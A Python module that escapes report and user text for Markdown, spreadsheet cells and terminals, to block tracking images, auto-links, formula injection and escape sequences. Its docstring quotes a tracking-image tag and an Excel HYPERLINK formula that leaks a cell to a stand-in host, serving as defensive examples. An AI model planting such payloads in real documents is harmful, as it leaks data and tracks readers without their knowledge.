"""Text from a report or a user, made safe for where it is shown: as Markdown (the web workspace, the exported
letter) and as a spreadsheet cell (the round's pre-screen sheet).

A report can carry `![](http://tracker/t.png)`, `<img src=...>` or a bare link in its text, its file name or a
member name; rendered as Markdown, the browser of whoever reads it fetches the image, and the report learns when
and where it is read. A cell starting with `=` is a formula to Excel (`=HYPERLINK("http://x/?leak="&B3)`). So
every such string is shown as the plain text it is: in Markdown no tag, no image, no link, no code span it did
not write as text; in a sheet no formula. Templates and framework text (headings, the grade key) are ours and are
not passed through here.
"""

from __future__ import annotations

import re

# Characters that mean something inline in CommonMark/GFM (and Gradio's LaTeX): each gets a backslash, which every
# CommonMark renderer drops again. `<`, `>` and `&` become entities instead, which every Markdown renderer (and
# raw HTML) shows as the characters themselves.
# An underscore inside a word never starts emphasis, so file_names_like_this stay as they are.
_INLINE = re.compile(r"([\\`*\[\]|$~]|(?<![A-Za-z0-9])_|_(?![A-Za-z0-9]))")
_ENTITIES = {"&": "&amp;", "<": "&lt;", ">": "&gt;"}
# What GFM turns into links without brackets: scheme://..., www., and e-mail addresses.
_BARE_LINK = re.compile(r"(?i)(?<=[a-z0-9])(:)(?=//)|\b(www)(\.)|(@)")
# Block markers at the start of a line: headings, lists, quotes, setext underlines, numbered lists.
_LINE_START = re.compile(r"^([ \t]*)([#+\-=]|\d{1,9}(?=[.)]))", re.MULTILINE)


def md_text(value: object) -> str:
    """`value` as Markdown that renders as exactly its text: no HTML, image, link or code span survives as markup,
    and a line that starts like a heading or a list stays a line of text."""
    return _LINE_START.sub(_escape_marker, _inline(value))


def md_line(value: object) -> str:
    """`value` inside a line of Markdown (a list item, a table cell, bold text): its new lines become spaces, which
    would otherwise end the item, and no tag, image or link survives as markup."""
    return _inline(" ".join(("" if value is None else str(value)).split()))


def _inline(value: object) -> str:
    text = "" if value is None else str(value)
    text = _INLINE.sub(r"\\\1", text)
    text = re.sub(r"[&<>]", lambda m: _ENTITIES[m.group()], text)
    return _BARE_LINK.sub(_break_link, text)


def md_code(value: object) -> str:
    """`value` as an inline code span (a file name, say): code spans show their content literally, so only a
    backtick, which would end the span, and new lines are replaced."""
    text = " ".join(("" if value is None else str(value)).split()).replace("`", "'")
    return f"`{text}`" if text else ""


def _break_link(match: re.Match) -> str:
    if match.group(1):
        return "\\:"
    if match.group(2):
        return match.group(2) + "\\."
    return "\\@"


def _escape_marker(match: re.Match) -> str:
    indent, marker = match.groups()
    if marker.isdigit():  # "1." or "1)": escape the punctuation after the number
        return indent + marker + "\\"
    return indent + "\\" + marker


# Spreadsheets: OWASP's CSV-injection guidance: a cell that starts with one of these is a formula (or DDE) to
# Excel, LibreOffice and Google Sheets; a leading apostrophe makes it text.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def sheet_cell(value: object) -> object:
    """A value for a CSV or XLSX cell: numbers stay numbers; text that a spreadsheet would run as a formula gets a
    leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


# A terminal: an escape sequence in a file name or a quote could rewrite what the secretariat sees (colours, a
# cleared screen, a forged line). Control characters other than tab and new line are shown as their code.
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def terminal_text(value: object) -> str:
    """`value` for a terminal: control characters (ESC and the like) replaced by their escaped form, \\x1b."""
    text = "" if value is None else str(value)
    return _CONTROL.sub(lambda m: m.group().encode("unicode_escape").decode("ascii"), text)
